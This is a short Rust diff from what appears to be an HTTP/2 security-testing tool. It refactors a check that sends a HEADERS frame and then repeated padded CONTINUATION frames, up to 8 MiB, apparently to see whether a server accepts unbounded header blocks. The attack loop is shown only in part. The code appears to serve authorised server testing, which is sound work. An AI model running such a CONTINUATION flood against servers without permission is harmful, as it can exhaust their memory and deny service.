@@ -6,7 +6,7 @@ use super::link::Link;
 use crate::attack::context::Context;
 use crate::attack::definition::Attack;
 use crate::attack::evidence::{Evidence, Findings, Mark};
-use keel_wire::http2::{CONTINUATION, END_STREAM, HEADERS, frame, get, literal};
+use keel_wire::http2::{CONTINUATION, END_STREAM, HEADERS, frame, literal};
 
 /// The header block's size at which it counts as taken without a limit, in bytes.
 const BLOCK: usize = 8 << 20;
@@ -33,7 +33,7 @@ async fn launch(context: &Context<'_>) -> Findings {
         literal(&mut filler, b"x-a", &[b'a'; 62]);
     }
     let piece = frame(CONTINUATION, 0, 1, &filler);
-    let mut going = link.write(&frame(HEADERS, END_STREAM, 1, &get(&context.read().path, &context.host))).await;
+    let mut going = link.write(&frame(HEADERS, END_STREAM, 1, &context.h2_get())).await;
     let mut sent = 0;
     while going && sent < BLOCK && sent < context.bounds.bytes as usize && context.turn().await {
         going = link.write(&piece).await;
